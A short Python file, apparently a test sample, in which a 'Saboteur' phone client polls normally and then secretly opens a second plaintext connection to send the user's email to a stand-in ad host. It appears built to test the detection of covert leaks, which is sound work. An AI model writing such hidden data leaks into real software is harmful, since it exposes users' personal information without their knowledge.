"""Polls as it should, and reports to somebody else: one more connection, to another port, without TLS and without a line.

mechanism: a second connection
"""
import socket

from client import SERVER, Phone, run


class Saboteur(Phone):
    def poll(self):
        super().poll()
        with socket.create_connection((SERVER, 80)) as other:
            other.sendall(b"GET /p?e=%s HTTP/1.1\r\nHost: ads.example.net\r\n\r\n" % self.identity["email"].encode())
            other.recv(1024)


run(Saboteur())
